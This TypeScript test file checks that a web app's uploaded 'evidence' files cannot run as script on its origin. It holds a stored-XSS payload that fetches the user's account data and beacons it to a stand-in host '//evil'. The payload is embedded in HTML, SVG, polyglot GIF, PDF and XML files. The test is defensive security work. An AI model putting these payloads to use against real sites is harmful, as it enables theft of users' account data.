import { afterAll, beforeAll, expect, test } from 'vitest';
import { problemAt } from '../laws/lives.ts';
import { type House, instead, openHouse, type Site } from './house.ts';

let house: House;
beforeAll(async () => {
  house = await openHouse();
});
afterAll(() => house.close());

const JS = 'fetch("/api/v1/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))';
const FILES: readonly (readonly [string, string | Buffer])[] = [
  ['a.js', JS],
  ['a.html', `<!doctype html><script>${JS}</script>`],
  ['a.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`],
  ['a.txt', `<script>${JS}</script>`],
  ['a.png.html', `<script>${JS}</script>`],
  ['gif-and-script.gif', Buffer.from(`GIF89a/*\0\0*/=1;${JS}`, 'latin1')],
  ['a.pdf', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${JS}`],
  [
    'a.xml',
    `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script></a>`,
  ],
];

/** Whatever a browser could run, put in as evidence and asked back in every way. */
async function attack(site: Site): Promise<string[]> {
  const found: string[] = [];
  let kept = 0;
  for (const [name, content] of FILES) {
    const entry = await problemAt(house.database.db, house.city, 'accepted');
    const path = `/api/v1/entries/${entry.id}/evidence?version=${entry.version}&name=${encodeURIComponent(name)}`;
    const sent = await house.real.ask('POST', path, {
      as: 'townLiaison',
      body: Buffer.from(content),
      headers: { 'content-type': 'text/html' },
    });
    if (sent.status >= 500) found.push(`${name}: ${sent.status}`);
    if (sent.status !== 200) continue;
    kept += 1;
    for (const tail of ['', '?inline=true']) {
      const got = await site.ask('GET', `/api/v1/evidence/${String(sent.body['id'])}${tail}`, {
        as: 'townLiaison',
        headers: { 'sec-fetch-dest': 'script' },
      });
      const header = (field: string): string => got.headers.get(field) ?? '';
      if (!/^(application\/octet-stream|image\/(jpeg|png|webp))$/.test(header('content-type')))
        found.push(`${name}${tail} as ${header('content-type')}`);
      if (!header('content-disposition').startsWith('attachment'))
        found.push(`${name}${tail} opens`);
      if (!header('content-security-policy').includes('sandbox')) found.push(`${name} no sandbox`);
      if (header('x-content-type-options') !== 'nosniff') found.push(`${name} is sniffed`);
    }
  }
  // Plain text is allowed, whatever it says; so something was kept and fetched.
  expect(kept).toBeGreaterThan(0);
  return found;
}

test('A17: evidence cannot be run on this origin', async () => {
  expect(await attack(house.real)).toEqual([]);
  const inline = house.weakened({
    routes: instead('downloadEvidence', () =>
      Promise.resolve(new Response(JS, { headers: { 'content-type': 'text/html' } })),
    ),
  });
  expect(await attack(inline)).not.toEqual([]);
}, 180_000);
